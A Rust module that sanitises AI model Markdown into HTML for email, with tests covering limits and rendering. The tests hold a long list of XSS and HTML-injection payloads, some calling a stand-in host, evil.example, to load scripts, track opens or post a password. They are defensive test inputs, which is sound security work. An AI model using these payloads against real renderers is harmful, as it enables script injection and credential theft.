//! Turns a model's Markdown into HTML that is safe inside a mail.
//!
//! A model's output is untrusted: it may repeat what a page told it to. Two walls, each enough: raw
//! HTML becomes text before it is rendered, and what is rendered is reduced to a short list of tags.

use std::{
    collections::{HashMap, HashSet},
    sync::LazyLock,
};

use ammonia::UrlRelative;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};

/// Beyond this the HTML part shows the text as it is: mail programs cut such messages anyway, and
/// the sanitiser takes about a second for each quarter of a megabyte of small elements.
const MARKDOWN_BYTES_MAX: usize = 128 * 1024;
/// Nobody nests deeper, and the sanitiser's time grows with the square of the depth.
const DEPTH_MAX: usize = 32;
/// The sanitiser's time also grows with the length of a run of text times its `&` and its
/// characters from U+0080 to U+00BF. This many steps take about a tenth of a second.
const STEPS_MAX: usize = 100_000_000;

/// Renders Markdown as a fragment of HTML, without images and with links to https and mailto only.
///
/// What would take too long is shown as it is, in a monospaced block.
pub(super) fn to_html(markdown: &str) -> String {
    if markdown.len() > MARKDOWN_BYTES_MAX {
        return plain(markdown);
    }
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut effort = Effort::default();
    let mut events = Vec::new();
    for event in Parser::new_ext(markdown, options) {
        if !effort.allows(&event) {
            return plain(markdown);
        }
        events.extend(harmless(event));
    }
    let mut rendered = String::with_capacity(markdown.len() * 2);
    html::push_html(&mut rendered, events.into_iter());
    SANITISER.clean(&rendered).to_string()
}

fn harmless(event: Event<'_>) -> Option<Event<'_>> {
    if let Event::Html(text) | Event::InlineHtml(text) = event {
        return Some(Event::Text(text));
    }
    // An image's alternative text stays, as text.
    let image = matches!(
        event,
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image)
    );
    (!image).then_some(event)
}

/// What the sanitiser will have to do.
#[derive(Default)]
struct Effort {
    depth: usize,
    run_bytes: usize,
    run_specials: usize,
    steps: usize,
}

impl Effort {
    fn allows(&mut self, event: &Event<'_>) -> bool {
        match event {
            Event::Text(text) | Event::Code(text) | Event::Html(text) | Event::InlineHtml(text) => {
                self.steps -= self.run_bytes * self.run_specials;
                self.run_bytes += text.len();
                self.run_specials += text
                    .bytes()
                    .filter(|byte| matches!(byte, b'&' | 0xC2))
                    .count();
                self.steps += self.run_bytes * self.run_specials;
            }
            Event::Start(_) => {
                self.depth += 1;
                (self.run_bytes, self.run_specials) = (0, 0);
            }
            Event::End(_) => {
                self.depth = self.depth.saturating_sub(1);
                (self.run_bytes, self.run_specials) = (0, 0);
            }
            Event::InlineMath(_)
            | Event::DisplayMath(_)
            | Event::FootnoteReference(_)
            | Event::SoftBreak
            | Event::HardBreak
            | Event::Rule
            | Event::TaskListMarker(_) => {}
        }
        self.depth <= DEPTH_MAX && self.steps <= STEPS_MAX
    }
}

fn plain(text: &str) -> String {
    format!("<pre style=\"{PRE}\">{}</pre>", escape(text))
}

/// Text as HTML.
pub(super) fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            other => escaped.push(other),
        }
    }
    escaped
}

const PRE: &str = "white-space:pre-wrap;word-wrap:break-word;padding:12px;border:1px solid #888888;\
                   border-radius:4px;font-family:Consolas,Menlo,monospace;font-size:14px";
const CELL: &str = "border:1px solid #888888;padding:4px 8px;text-align:left;vertical-align:top";

static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(HashSet::from([
            "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
            "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
        ]))
        .generic_attributes(HashSet::new())
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .url_schemes(HashSet::from(["https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean_content_tags(HashSet::from(["script", "style"]))
        // Mail programs drop style sheets; these are ours, set after everything else is gone.
        .set_tag_attribute_values(HashMap::from([
            ("table", HashMap::from([("style", "border-collapse:collapse")])),
            ("td", HashMap::from([("style", CELL)])),
            ("th", HashMap::from([("style", CELL)])),
            ("pre", HashMap::from([("style", PRE)])),
            (
                "blockquote",
                HashMap::from([(
                    "style",
                    "margin:0 0 16px;padding:0 0 0 12px;border-left:3px solid #888888",
                )]),
            ),
        ]));
    builder
});

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::*;

    /// Checks every tag of the result against what may be there, whatever the sanitiser thinks.
    fn assert_harmless(payload: &str) {
        let html = to_html(payload);
        let mut rest = html.as_str();
        while let Some(start) = rest.find('<') {
            let end = rest[start..].find('>').expect("a tag ends") + start;
            let tag = &rest[start + 1..end];
            rest = &rest[end + 1..];
            let (name, attributes) = tag
                .trim_start_matches('/')
                .trim_end_matches('/')
                .split_once(' ')
                .unwrap_or((tag.trim_start_matches('/'), ""));
            assert!(
                [
                    "a",
                    "blockquote",
                    "br",
                    "code",
                    "del",
                    "em",
                    "h1",
                    "h2",
                    "h3",
                    "h4",
                    "h5",
                    "h6",
                    "hr",
                    "li",
                    "ol",
                    "p",
                    "pre",
                    "strong",
                    "table",
                    "tbody",
                    "td",
                    "th",
                    "thead",
                    "tr",
                    "ul",
                ]
                .contains(&name),
                "<{tag}> from {payload:?}"
            );
            let mut values = attributes.split('"');
            while let (Some(attribute), Some(value)) = (values.next(), values.next()) {
                let ours = match attribute.trim().trim_end_matches('=') {
                    "href" => value.starts_with("https://") || value.starts_with("mailto:"),
                    "rel" => value == "noopener noreferrer nofollow",
                    "start" => value.bytes().all(|byte| byte.is_ascii_digit()),
                    "style" => {
                        [PRE, CELL, "border-collapse:collapse"].contains(&value)
                            || value.starts_with("margin:0 0 16px")
                    }
                    _ => false,
                };
                assert!(ours, "{attribute}{value:?} from {payload:?}");
            }
        }
    }

    #[test]
    fn no_payload_survives() {
        for payload in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/pixel.gif\">",
            "![pixel](https://evil.example/pixel.gif)",
            "![x](javascript:alert(1))",
            "![x](\"onerror=\"alert(1))",
            "![a](b \"c\\\" onerror=alert(1) x=\\\"\")",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<body onload=alert(1)>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<p style=\"position:fixed;top:0\">x</p>",
            "<form action=https://evil.example><input name=password></form>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#115;cript:alert(1))",
            "[x](java&Tab;script:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](%6Aavascript:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](\u{1}javascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](http://plain.example/)",
            "[x](//evil.example/)",
            "[x](/relative)",
            "[x](file:///etc/passwd)",
            "[x](https://ok.example\" onmouseover=\"alert(1))",
            "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
            "[x]: javascript:alert(1)\n\n[x]",
            "<javascript:alert(1)>",
            "<https://ok.example/\"onclick=alert(1)>",
            "```html\n<script>alert(1)</script>\n```",
            "```\"><script>alert(1)</script>\nx\n```",
            "`<script>alert(1)</script>`",
            "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
            "# <img src=x onerror=alert(1)>",
            "> <script>alert(1)</script>",
            "- <script>alert(1)</script>",
            "<!--<script>-->alert(1)<!--</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\<script\\>alert(1)\\</script\\>",
            "<a/href=\"javascript:alert(1)\">x",
            "<<script>alert(1)//<</script>",
            "<x onclick=alert(1)>x</x>",
            "\0<script\0>alert(1)</script>",
            "<plaintext>",
            "<textarea><script>alert(1)</script>",
            "</p></div></body></html><script>alert(1)</script>",
            "<template><script>alert(1)</script></template>",
        ] {
            assert_harmless(payload);
            assert_harmless(&format!("text {payload} text"));
            assert_harmless(&format!("[a **{payload}** b](https://ok.example)"));
        }
    }

    #[test]
    fn the_check_itself_finds_what_it_looks_for() {
        // Rendered without either wall, the payloads are harmful.
        let mut raw = String::new();
        html::push_html(
            &mut raw,
            Parser::new("<script>x</script>\n\n[x](javascript:alert(1))"),
        );
        assert!(raw.contains("<script>") && raw.contains("href=\"javascript:"));
    }

    #[test]
    fn what_people_write_stays() {
        for (markdown, html) in [
            (
                "**b** *i* ~~d~~ `c`",
                "<p><strong>b</strong> <em>i</em> <del>d</del> <code>c</code></p>\n",
            ),
            ("3. x", "<ol start=\"3\">\n<li>x</li>\n</ol>\n"),
            ("a < b && c > d", "<p>a &lt; b &amp;&amp; c &gt; d</p>\n"),
            ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"),
            ("![a chart](https://x.example/c.png)", "<p>a chart</p>\n"),
            (
                "[m](mailto:a@b.example)",
                "<p><a href=\"mailto:a@b.example\" rel=\"noopener noreferrer nofollow\">m</a></p>\n",
            ),
        ] {
            assert_eq!(to_html(markdown), html);
        }
    }

    #[test]
    fn a_text_of_any_shape_takes_a_bounded_time() {
        for unit in [
            ">",
            "[",
            "<",
            "**a",
            "a\n\n",
            "&",
            "°",
            "|&",
            "[a](",
            "[&](https://a.example) ",
            "*a_",
        ] {
            let text = unit.repeat(MARKDOWN_BYTES_MAX / unit.len());
            let start = Instant::now();
            assert_harmless(&text);
            // Without the limits, a run of ampersands takes minutes in a build like this one.
            let took = start.elapsed();
            assert!(took < Duration::from_secs(30), "{unit:?} took {took:?}");
        }
    }

    #[test]
    fn usual_texts_are_within_the_limits() {
        let quote = "Le budget\u{a0}: «\u{a0}37\u{a0}°C & plus\u{a0}», dit-elle.\n\n";
        let code = format!(
            "```c\n{}```\n",
            "if (a && b) { return *c & 0xff; }\n".repeat(500)
        );
        for text in [quote.repeat(1000), code, "> ".repeat(20) + "deep"] {
            assert_ne!(to_html(&text), plain(&text));
        }
    }

    #[test]
    fn a_very_long_text_is_shown_as_it_is() {
        let text = "<script>\n".repeat(MARKDOWN_BYTES_MAX / 8);
        assert_harmless(&text);
        assert!(to_html(&text).starts_with("<pre style="));
    }
}
